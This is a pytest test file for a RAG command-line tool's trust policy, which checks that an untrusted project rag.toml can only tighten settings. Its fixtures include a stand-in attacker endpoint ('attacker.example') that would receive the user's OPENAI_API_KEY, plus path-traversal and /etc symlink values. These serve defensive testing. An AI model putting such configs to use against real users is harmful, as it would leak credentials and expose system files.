"""Until the user trusts it, a project's rag.toml makes things stricter, never looser."""

from __future__ import annotations

import os
from dataclasses import fields
from pathlib import Path

import pytest

from ragcli.errors import SettingsError
from ragcli.settings import Settings
from ragcli.trust.policy import (
    FREE,
    LIMITS,
    MODELS,
    NEVER,
    OWN,
    PATHS,
    RIGHTS,
    STRICT,
    STRICTER,
    WRITERS,
    Guarded,
    resolve_guarded,
)  # fmt: skip
from ragcli.trust.store import TrustStore
from tests.conftest import Rag

REMOTE = "openai:gpt-4o@http://attacker.example/v1"


def guarded(work: Path, content: str, user: str = "", *, trusted: bool = False, **flags: object) -> Guarded:
    (work / "rag.toml").write_text(content)
    (work / "user.toml").write_text(user)
    return resolve_guarded(
        flags, environment={}, directory=work, user_file=work / "user.toml", trusts=lambda file: trusted
    )


def test_every_setting_is_classified_once() -> None:
    classes = [FREE, set(STRICT), LIMITS, set(STRICTER), PATHS, MODELS, WRITERS, NEVER, RIGHTS, OWN]
    assert sorted(name for kind in classes for name in kind) == sorted(field.name for field in fields(Settings))


@pytest.mark.parametrize(
    ("content", "user", "name"),
    [
        ("[limits]\nmemory_mb = 4096", "", "limits.memory_mb"),
        ("[limits]\nfile_mb = 50.0", "[limits]\nfile_mb = 10.0", "limits.file_mb"),
        ("[answer]\nseconds = 100.0", "[answer]\nseconds = 10.0", "answer.seconds"),
        ("[answer]\ncache = true", "[answer]\ncache = false", "answer.cache"),
        ("[answer]\nverify = 'warn'", "[answer]\nverify = 'fail'", "answer.verify"),
        ("[ingest]\nhidden = true", "", "ingest.hidden"),
        ("[ingest]\nfollow_symlinks = true", "", "ingest.follow_symlinks"),
        ("[ingest]\nocr = 'eng'", "", "ingest.ocr"),
        (f"[answer]\nmodel = '{REMOTE}'", "", "answer.model"),
        (f"[answer]\nmodels = ['extractive', '{REMOTE}']", "", "answer.models"),
        ("[answer]\nmodel = 'm.gguf'", "", "answer.model"),
        ("[answer]\nmodel = 'plugin:model'", "", "answer.model"),
        ("[answer]\njudge = 'somebody/model'", "", "answer.judge"),
        ("[retrieval]\nrerank = '/models/cross'", "", "retrieval.rerank"),
        ("[retrieval]\nsynonyms = '../words.txt'", "", "retrieval.synonyms"),
        ("[retrieval]\nsynonyms = '~/words.txt'", "", "retrieval.synonyms"),
        ("[retrieval]\nsynonyms = 'linked/words.txt'", "", "retrieval.synonyms"),
        ("[answer]\ntemplates = '/etc'", "", "answer.templates"),
    ],
)
def test_what_would_loosen_something_is_ignored_and_named_until_the_file_is_trusted(
    work: Path, content: str, user: str, name: str
) -> None:
    (work / "linked").symlink_to("/etc")
    (work / "m.gguf").write_bytes(b"")
    found = guarded(work, content, user)
    field = name.replace(".", "_")
    assert found.resolved.settings == guarded(work, "", user).resolved.settings
    assert str(work / "rag.toml") not in found.resolved.sources[field]
    (note,) = found.notes
    assert name in note
    assert f"rag trust {work / 'rag.toml'}" in note
    allowed = guarded(work, content, user, trusted=True)
    assert allowed.notes == ()
    assert allowed.resolved.sources[field] == str(work / "rag.toml")


@pytest.mark.parametrize(
    "content",
    [
        "offline = true",
        "[limits]\nmemory_mb = 256",
        "[retrieval]\nk = 9\nsynonyms = 'words.txt'",
        "[answer]\ncache = false\nverify = 'fail'\nmodel = 'qwen2.5-1.5b'",
        "[embedding]\nmodel = 'hashing'",
        "[embedding]\nmodel = 'own'",
        "index = 'sub/.rag'",
    ],
)
def test_what_stays_in_the_folder_or_makes_things_stricter_holds_at_once(work: Path, content: str) -> None:
    (work / "own").mkdir()
    found = guarded(work, content)
    assert found.notes == ()
    assert found.resolved.settings != Settings()


@pytest.mark.parametrize(
    ("content", "flag"),
    [("index = '../victim/.rag'", "--index"), ("[embedding]\nmodel = 'somebody/model'", "--embedding-model")],
)
def test_what_would_lead_to_another_index_is_an_error_rather_than_ignored(work: Path, content: str, flag: str) -> None:
    with pytest.raises(SettingsError, match="before you trust it") as caught:
        guarded(work, content)
    assert f"rag trust {work / 'rag.toml'}" in caught.value.hint
    assert flag in caught.value.hint
    named = guarded(work, content, trusted=False, **{flag[2:].replace("-", "_"): "hashing"})
    assert named.notes == ()


@pytest.mark.parametrize("trusted", [False, True])
def test_offline_of_the_user_cannot_be_undone_by_a_project_not_even_by_a_trusted_one(work: Path, trusted: bool) -> None:
    found = guarded(work, "offline = false", "offline = true", trusted=trusted)
    assert found.resolved.settings.offline
    (note,) = found.notes
    assert "offline = false" in note
    assert str(work / "user.toml") in note
    assert not guarded(work, "offline = false", "offline = true", offline=False).resolved.settings.offline


def test_a_flag_or_a_variable_that_decides_leaves_nothing_to_note(work: Path) -> None:
    assert guarded(work, f"[answer]\nmodel = '{REMOTE}'", answer_model="extractive").notes == ()


def test_trust_is_for_the_content_and_is_taken_back(rag: Rag, work: Path, tmp_path: Path) -> None:
    rag.monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    project = work / "rag.toml"
    project.write_text(f"[answer]\nmodel = '{REMOTE}'\n")
    assert "answer.model" in rag("config", "show").stderr
    told = rag("trust").stdout
    assert f"trusted: {project}" in told
    assert "OPENAI_API_KEY go to attacker.example" in told
    assert rag("config", "show").stderr == ""
    assert f"{project} trusted" in rag("trust", "--list").stdout
    project.write_text(project.read_text() + "\n")
    assert f"rag trust {project}" in rag("config", "show").stderr
    assert "changed since" in rag("trust", "--list").stdout
    rag("trust", str(work))
    assert rag("config", "show").stderr == ""
    rag("untrust", str(work))
    assert "answer.model" in rag("config", "show").stderr
    rag("untrust", str(work), code=4)
    project.unlink()
    assert "rag trust PATH" in rag("trust", code=2).stderr
    kept = tmp_path / "state" / "ragcli" / "trust.json"
    assert kept.stat().st_mode & 0o077 == 0


def test_a_store_that_cannot_be_read_trusts_nothing(work: Path, tmp_path: Path) -> None:
    (work / "rag.toml").write_text("")
    for content in ("", "[]", '{"files": []}', '{"files": {"x": 1}, "roots": 3}'):
        (tmp_path / "trust.json").write_text(content)
        store = TrustStore(tmp_path)
        assert not store.trusts(work / "rag.toml")
        assert store.roots(work / ".rag") == ()
    store.trust(work / "rag.toml")
    assert store.trusts(work / "rag.toml")
    assert os.path.realpath(work / "rag.toml") in store.files()
